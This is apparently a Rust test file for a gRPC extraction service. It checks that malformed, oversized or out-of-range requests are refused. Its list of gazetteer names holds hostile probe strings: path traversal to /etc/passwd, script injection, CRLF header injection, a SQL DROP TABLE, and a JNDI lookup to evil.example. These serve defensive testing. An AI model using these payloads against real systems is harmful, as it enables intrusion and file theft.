//! Requests of a known caller that ask for too much, for nonsense, or for what is another's.

use proto::{BatchExtractRequest, Document, Entity, ExtractOptions, ExtractRequest};
use tonic::Code;

use super::{Client, Got, Outcome, Row, proto};
use crate::access::with;

const NOT_FOUND: Outcome = Outcome::Refused(Code::NotFound, "GAZETTEER_NOT_FOUND");
const INVALID: Outcome = Outcome::Refused(Code::InvalidArgument, "INVALID_REQUEST");

fn refused(reason: &'static str) -> Outcome {
    Outcome::Refused(Code::InvalidArgument, reason)
}

fn extract(name: &str, expected: Outcome, make: impl Fn() -> ExtractRequest + Send + Sync + 'static) -> Row {
    Row::new(name, expected, move |world| {
        let request = make();
        async move {
            let mut client = Client::new(world.plain.channel().await).max_decoding_message_size(usize::MAX);
            Got::answer(client.extract(with(&world.robot(), request)).await)
        }
    })
}

fn document(text: impl Into<String>) -> Option<Document> {
    Some(Document { text: text.into(), ..Default::default() })
}

fn named(name: &'static str) -> Row {
    extract(&format!("the gazetteer {name:?}"), NOT_FOUND, move || ExtractRequest {
        document: document("Secretland"),
        gazetteers: vec![name.into()],
        ..Default::default()
    })
}

fn options(name: &str, options: ExtractOptions) -> Row {
    extract(name, INVALID, move || ExtractRequest {
        document: document("x"),
        options: Some(options.clone()),
        ..Default::default()
    })
}

fn entity(name: &str, entity: Entity) -> Row {
    extract(name, INVALID, move || ExtractRequest {
        document: document("x"),
        inline_entities: vec![entity.clone()],
        ..Default::default()
    })
}

fn batch(name: &str, expected: Outcome, count: usize) -> Row {
    Row::new(name, expected, move |world| async move {
        let request = BatchExtractRequest { documents: vec![Document::default(); count], ..Default::default() };
        Got::answer(world.plain.client().await.batch_extract(with(&world.robot(), request)).await)
    })
}

pub(super) fn rows() -> Vec<Row> {
    let mut rows: Vec<Row> = [
        "two",
        "TWO",
        "two ",
        "tw",
        "t*",
        "*",
        "one*",
        "one-",
        "../two",
        "../../etc/passwd",
        "one/../two",
        "/etc/passwd",
        "%2e%2e%2ftwo",
        "<script>alert(1)</script>",
        "a\r\nSet-Cookie: b",
        "\u{1B}[2J\u{7}",
        "\u{202E}owt",
        "\0two",
        "'; DROP TABLE gazetteers; --",
        "${jndi:ldap://evil.example}",
        "inline",
    ]
    .into_iter()
    .map(named)
    .collect();
    rows.extend([
        extract("a gazetteer without a name", NOT_FOUND, || ExtractRequest {
            document: document("x"),
            gazetteers: vec![String::new()],
            ..Default::default()
        }),
        extract("a very long name", NOT_FOUND, || ExtractRequest {
            document: document("x"),
            gazetteers: vec!["../".repeat(100_000)],
            ..Default::default()
        }),
        extract("a hundred thousand gazetteers", INVALID, || ExtractRequest {
            document: document("x"),
            gazetteers: vec!["two".into(); 100_000],
            ..Default::default()
        }),
        extract("nothing at all", INVALID, ExtractRequest::default),
        extract("a document beyond the limit", refused("DOCUMENT_TOO_LARGE"), || ExtractRequest {
            document: document("a".repeat((8 << 20) + 1)),
            ..Default::default()
        }),
        extract("more entities than the limit", refused("TOO_MANY_INLINE_ENTITIES"), || ExtractRequest {
            document: document("x"),
            inline_entities: vec![Entity { id: "a".into(), ..Default::default() }; 100_001],
            ..Default::default()
        }),
        extract("a message beyond the limit", refused("MESSAGE_TOO_LARGE"), || ExtractRequest {
            document: document("a".repeat(17 << 20)),
            ..Default::default()
        }),
        options(
            "more mentions than there are numbers",
            ExtractOptions { max_mentions: u32::MAX, ..Default::default() },
        ),
        options("an unknown unit", ExtractOptions { offset_encoding: i32::MAX, ..Default::default() }),
        options("a negative policy", ExtractOptions { overlap_policy: i32::MIN, ..Default::default() }),
        options("a score that is no number", ExtractOptions { min_score: f64::NAN, ..Default::default() }),
        options("a score without bounds", ExtractOptions { min_score: f64::INFINITY, ..Default::default() }),
        options("a million forms", ExtractOptions { disabled_forms: vec![1; 1_000_000], ..Default::default() }),
        entity("an entity of nothing", Entity::default()),
        entity("a name of a megabyte", Entity { id: "a".into(), name: "a".repeat(1 << 20), ..Default::default() }),
        entity(
            "an endless prior",
            Entity { id: "a".into(), name: "a".into(), prior: Some(f64::INFINITY), ..Default::default() },
        ),
        entity(
            "a name of control characters",
            Entity { id: "a".into(), name: "\0\u{1}\u{7F}".into(), ..Default::default() },
        ),
        batch("a batch of nothing", INVALID, 0),
        batch("a batch beyond the limit", refused("BATCH_TOO_LARGE"), 1001),
    ]);
    rows
}
